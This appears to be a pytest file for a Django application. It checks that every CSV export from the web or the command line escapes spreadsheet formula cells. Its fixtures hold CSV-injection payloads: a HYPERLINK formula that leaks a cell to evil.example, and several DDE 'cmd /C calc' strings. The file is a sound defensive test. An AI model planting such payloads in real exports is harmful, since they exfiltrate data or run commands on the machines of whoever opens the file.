"""Every CSV the system writes, in the web and from the command line, is safe to open in a spreadsheet: a
cell that would be read as a formula (=, +, -, @, tab, carriage return) starts with an apostrophe."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from connecting_people.consult.models import Comment, Reviewer
from connecting_people.fieldwork.coding import do_code_passage, locate
from connecting_people.fieldwork.importing import ImportItem, import_one
from connecting_people.fieldwork.models import Source, Tag
from connecting_people.guide.actions import do_save_action_plan
from connecting_people.guide.models import PlannedAction
from connecting_people.interventions.models import Component
from connecting_people.lib.csvsafe import TRIGGERS, safe_cell
from connecting_people.partnerships.models import Partner
from connecting_people.practice.maps import do_save_member
from connecting_people.practice.models import MapMember

from .conftest import Cast
from .test_permission_matrix import consult_objects

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PLANTED = {
    "comment": FORMULA,
    "line": "+1+cmd|' /C calc'!A0",
    "memo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tag": "-2+3",
    "member": "\t=1+1",
    "cr": "\r=1+1",
    "plan": "=cmd|' /C calc'!A0",
    "partner": "=2+5+cmd|' /C calc'!A0",
}
# Every CSV the web serves (url name, and query for one served from a page with other formats).
WEB = {
    "audit:export": "",
    "fieldwork:coverage_csv": "",
    "fieldwork:excerpts_csv": "",
    "fieldwork:manifest_template": "",
    "consult:report": "?format=csv",
    "guide:plan_csv": "",
    "partners:report": "?format=csv",
}


def _csv_url_names(resolver: URLResolver | None = None, prefix: str = "") -> set[str]:
    names = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            names |= _csv_url_names(entry, f"{prefix}{entry.namespace}:" if entry.namespace else prefix)
        elif isinstance(entry, URLPattern) and ".csv" in str(entry.pattern) and entry.name:
            names.add(prefix + entry.name)
    return names


def _plant(cast: Cast) -> None:
    objects = consult_objects(cast)
    Comment.objects.filter(pk=objects["comment"].pk).update(text=PLANTED["comment"])
    Reviewer.objects.filter(pk=objects["reviewer"].pk).update(submitted_at=timezone.now())
    researcher, team = cast.users["researcher"], cast.orgs["fernhill"]
    text = f"P1: {PLANTED['line']}\n\nP1: and then we went home.\n"
    result = import_one(
        researcher,
        team,
        ImportItem(
            "planted.txt",
            text.encode,
            site=cast.fieldwork["site"],
            participants=[cast.fieldwork["participant"]],
        ),
    )
    source = Source.objects.get(pk=result.source_id)
    tag = Tag.objects.create(team=team, name=PLANTED["tag"])
    do_code_passage(
        researcher,
        source,
        locate(source.text, None, None, PLANTED["line"]),
        components=[Component.objects.get(version=cast.published, key="find-opportunities")],
        kind="example",
        memo=PLANTED["memo"],
        tags=[tag],
    )
    worker, person = cast.users["worker"], cast.people["HAR-1"]
    member_map = cast.practice["map"]
    do_save_member(
        worker, MapMember(map=member_map, label=PLANTED["member"], relationship="friend", circle=2)
    )
    do_save_member(worker, MapMember(map=member_map, label=PLANTED["cr"], relationship="friend", circle=2))
    assert person.maps.count() == 2
    Partner.objects.create(
        organisation=cast.orgs["harbourside"],
        name=PLANTED["partner"],
        kind="business",
        since=dt.date(2020, 1, 1),
    )


def _read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as f:  # keep a carriage return inside a cell as written
        return f.read()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, where: str, expected: list[str]) -> None:
    cells = _cells(text)
    assert cells, where
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert dangerous == [], f"{where}: {dangerous}"
    for value in expected:
        assert "'" + value in cells, f"{where}: {value!r} missing"


def test_the_one_writer_neutralises_formula_cells() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "", -3, 2.5)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "plain",
        "",
        -3,
        2.5,
    ]


def test_every_csv_endpoint_is_safe(cast: Cast) -> None:
    served_with_other_formats = {"consult:report", "partners:report"}
    assert _csv_url_names() | served_with_other_formats == set(WEB), (
        "a new CSV endpoint must be added to this test"
    )
    _plant(cast)
    objects = consult_objects(cast)
    harbourside = cast.orgs["harbourside"]
    planned = PlannedAction(
        guide=objects["guide"],
        organisation=harbourside,
        component=objects["section"].component,
        action=PLANTED["plan"],
        owner=FORMULA,
    )
    do_save_action_plan(cast.users["manager"], [planned], [])
    expected: dict[str, list[str]] = {
        "guide:plan_csv": [PLANTED["plan"], FORMULA],
        "partners:report": [PLANTED["partner"]],
        "consult:report": [PLANTED["comment"]],
        "fieldwork:excerpts_csv": [PLANTED["line"], PLANTED["memo"], PLANTED["tag"]],
        "audit:export": [],
        "fieldwork:coverage_csv": [],
        "fieldwork:manifest_template": [],
    }
    for name, query in WEB.items():
        args = {"consult:report": [objects["round"].pk], "guide:plan_csv": [harbourside.pk]}.get(name, [])
        client = cast.client(
            {"audit:export": "admin", "guide:plan_csv": "manager", "partners:report": "manager"}.get(
                name, "researcher"
            )
        )
        response = client.get(reverse(name, args=args) + query)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), name
        body = b"".join(response.streaming_content) if response.streaming else response.content
        _assert_safe(body.decode("utf-8"), name, expected[name])


def test_every_csv_command_is_safe(cast: Cast, tmp_path: Path) -> None:
    _plant(cast)
    objects: dict[str, Any] = consult_objects(cast)
    report = tmp_path / "report.csv"
    call_command(
        "consult",
        "report",
        str(objects["round"].pk),
        "--format",
        "csv",
        "--out",
        str(report),
        stdout=io.StringIO(),
    )
    _assert_safe(_read(report), "cpi consult report", [PLANTED["comment"]])
    excerpts = tmp_path / "excerpts.csv"
    call_command(
        "fieldwork",
        "export-excerpts",
        str(excerpts),
        "--team",
        "Fernhill Research Unit",
        stdout=io.StringIO(),
    )
    _assert_safe(
        _read(excerpts), "cpi fieldwork export-excerpts", [PLANTED["line"], PLANTED["memo"], PLANTED["tag"]]
    )
    coverage = io.StringIO()
    call_command("fieldwork", "coverage", "--csv", "--team", "Fernhill Research Unit", stdout=coverage)
    _assert_safe(coverage.getvalue(), "cpi fieldwork coverage --csv", [])
    maps = tmp_path / "maps"
    call_command(
        "practice",
        "export-maps",
        "HAR-1",
        "--format",
        "csv",
        "--with-names",
        "--out",
        str(maps),
        stdout=io.StringIO(),
    )
    alters = _read(maps / "alters.csv")
    _assert_safe(alters, "cpi practice export-maps alters.csv", [PLANTED["member"], PLANTED["cr"]])
    for name in ("ego.csv", "edges.csv"):
        _assert_safe(_read(maps / name), f"cpi practice export-maps {name}", [])
    commissioner = tmp_path / "commissioner.csv"
    call_command(
        "partners",
        "report",
        "--organisation",
        "Harbourside Connections",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--format",
        "csv",
        "--out",
        str(commissioner),
        stdout=io.StringIO(),
    )
    _assert_safe(_read(commissioner), "cpi partners report", [PLANTED["partner"]])


def test_our_own_map_export_reads_back_as_it_was(cast: Cast, tmp_path: Path) -> None:
    _plant(cast)
    maps = tmp_path / "maps"
    call_command(
        "practice",
        "export-maps",
        "HAR-1",
        "--format",
        "csv",
        "--with-names",
        "--out",
        str(maps),
        stdout=io.StringIO(),
    )
    call_command("practice", "import-maps", "HAR-2", str(maps), stdout=io.StringIO())
    labels = set(MapMember.objects.filter(map__person=cast.people["HAR-2"]).values_list("label", flat=True))
    assert {PLANTED["member"].strip(), PLANTED["cr"].strip()} <= labels
    assert not any(label.startswith("'") for label in labels)
